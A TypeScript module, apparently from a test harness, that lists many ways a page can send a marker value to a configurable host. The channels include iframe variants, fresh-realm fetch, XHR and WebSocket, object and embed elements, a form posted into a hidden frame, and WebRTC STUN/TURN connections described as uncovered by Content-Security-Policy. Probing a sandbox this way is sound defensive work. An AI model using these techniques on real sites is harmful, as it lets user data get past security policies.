import { asMarkup } from './markup';
import { place, placeNew } from './place';
import type { WayOut } from './way-out';

type Realm = Window & typeof globalThis;

/** Elements that hold another page, whose realm would be fresh: nothing in it was taken away. */
export const frameWays: readonly WayOut[] = [
  {
    id: 'iframe',
    title: 'frame with a page from elsewhere',
    attempt: ({ http }) => {
      placeNew('iframe', { src: `${http}/?rows` });
    },
  },
  {
    id: 'iframe-srcdoc',
    title: 'frame with a page made of text',
    attempt: ({ http }) => {
      const frame = placeNew('iframe') as HTMLIFrameElement;
      frame.srcdoc = asMarkup(`<img src="${http}/rows.png">`);
    },
  },
  {
    id: 'iframe-blob',
    title: 'frame with a page made by script (blob)',
    attempt: ({ http }) => {
      const html = `<img src="${http}/rows.png">`;
      placeNew('iframe', { src: URL.createObjectURL(new Blob([html], { type: 'text/html' })) });
    },
  },
  {
    id: 'iframe-fresh',
    title: 'fetch of a fresh realm in a frame',
    attempt: ({ http }) => freshRealm().fetch(`${http}/?rows`, { mode: 'no-cors' }),
  },
  {
    id: 'iframe-fresh-xhr',
    title: 'XMLHttpRequest of a fresh realm in a frame',
    attempt: ({ http }) => {
      const request = new (freshRealm().XMLHttpRequest)();
      request.open('GET', `${http}/?rows`);
      request.send();
    },
  },
  {
    id: 'iframe-fresh-websocket',
    manner: 'silent',
    title: 'WebSocket of a fresh realm in a frame',
    attempt: ({ ws }) => void new (freshRealm().WebSocket)(ws),
  },
  {
    id: 'iframe-markup',
    title: 'frame made of text (innerHTML)',
    attempt: ({ http }) => {
      placeNew('div').innerHTML = asMarkup(`<iframe src="${http}/?rows"></iframe>`);
    },
  },
  {
    id: 'iframe-xhtml',
    title: 'frame by its full name',
    attempt: ({ http }) => {
      const space = 'http://www.w3.org/1999/xhtml';
      place(document.createElementNS(space, 'html:iframe')).setAttribute('src', `${http}/?rows`);
    },
  },
  {
    id: 'iframe-custom',
    title: 'frame by way of an element of its own',
    needs: 'customElements',
    attempt: ({ http }) => {
      const Frame = customFrame();
      place(new Frame()).setAttribute('src', `${http}/?rows`);
    },
  },
  {
    id: 'iframe-other-document',
    title: 'frame made in another document',
    attempt: ({ http }) => {
      const other = document.implementation.createHTMLDocument('');
      place(other.createElement('iframe')).setAttribute('src', `${http}/?rows`);
    },
  },
  {
    id: 'frameset',
    title: 'set of frames',
    attempt: ({ http }) => {
      const set = placeNew('frameset');
      placeNew('frame', { src: `${http}/?rows` }, set);
    },
  },
  {
    id: 'fenced-frame',
    title: 'fenced frame',
    needs: 'HTMLFencedFrameElement',
    attempt: ({ http }) => {
      placeNew('fencedframe', { src: `${http}/?rows` });
    },
  },
  {
    id: 'object',
    title: 'object from elsewhere',
    attempt: ({ http }) => {
      placeNew('object', { data: `${http}/?rows` });
    },
  },
  {
    id: 'embed',
    title: 'embedded plug-in content',
    attempt: ({ http }) => {
      placeNew('embed', { src: `${http}/?rows`, type: 'text/html' });
    },
  },
  {
    id: 'form-in-frame',
    title: 'form sent into a frame',
    attempt: ({ http }) => {
      const box = placeNew('div');
      box.innerHTML = asMarkup(
        `<iframe name="leak"></iframe><form action="${http}" method="post" target="leak"><input name="rows"></form>`,
      );
      box.querySelector('form')!.submit();
    },
  },
];

/** WebRTC, which no Content-Security-Policy covers, by every way to lay hands on it. */
export const webRtcWays: readonly WayOut[] = [
  {
    id: 'webrtc',
    manner: 'silent',
    title: 'WebRTC, asking a STUN server',
    needs: 'RTCPeerConnection',
    attempt: ({ host, udp }) => connect(globalThis as Realm, `stun:${host}:${udp || 3478}`),
  },
  {
    id: 'webrtc-turn',
    manner: 'silent',
    title: 'WebRTC, with rows as the name at a TURN server',
    needs: 'RTCPeerConnection',
    attempt: ({ host, udp }) => connect(globalThis as Realm, `turn:${host}:${udp || 3478}`),
  },
  {
    id: 'webrtc-old-name',
    manner: 'silent',
    title: 'WebRTC by its old name',
    needs: 'webkitRTCPeerConnection',
    attempt: ({ host, udp }) => {
      const { webkitRTCPeerConnection: RTCPeerConnection } = globalThis as unknown as {
        webkitRTCPeerConnection: Realm['RTCPeerConnection'];
      };
      return connect({ RTCPeerConnection } as Realm, `stun:${host}:${udp || 3478}`);
    },
  },
];

/**
 * WebRTC of a fresh realm. Each in a page of its own where its answer is awaited: Chromium 156 ends a page that
 * makes a peer connection in a frame under an allow-list.
 */
export const webRtcFrameWays: readonly WayOut[] = [
  {
    id: 'webrtc-frame',
    manner: 'silent',
    title: 'WebRTC of a fresh realm in a frame',
    attempt: ({ host, udp }) => connect(freshRealm(), `stun:${host}:${udp || 3478}`),
  },
  {
    id: 'webrtc-custom',
    manner: 'silent',
    title: 'WebRTC of a fresh realm by way of an element of its own',
    needs: 'customElements',
    attempt: ({ host, udp }) => {
      const Frame = customFrame();
      const { contentWindow } = place(new Frame()) as HTMLIFrameElement;
      return connect(contentWindow as Realm, `stun:${host}:${udp || 3478}`);
    },
  },
];

async function connect({ RTCPeerConnection: Peer }: Realm, server: string): Promise<void> {
  const peer = new Peer({ iceServers: [{ urls: server, username: 'rows', credential: 'rows' }] });
  peer.createDataChannel('rows');
  await peer.setLocalDescription(await peer.createOffer());
}

function freshRealm(): Realm {
  return (placeNew('iframe') as HTMLIFrameElement).contentWindow as Realm;
}

let customFrames = 0;

/** An element that is a frame without being called one. */
function customFrame(): new () => HTMLElement {
  const Frame = class extends HTMLIFrameElement {};
  customElements.define(`leak-frame-${(customFrames += 1)}`, Frame, { extends: 'iframe' });
  return Frame;
}
